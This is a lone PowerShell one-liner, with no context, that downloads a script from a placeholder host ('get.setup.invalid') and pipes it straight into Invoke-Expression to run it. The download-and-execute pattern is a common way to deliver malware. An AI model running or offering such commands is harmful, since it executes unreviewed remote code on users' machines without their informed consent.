iwr https://get.setup.invalid/install.ps1 | iex
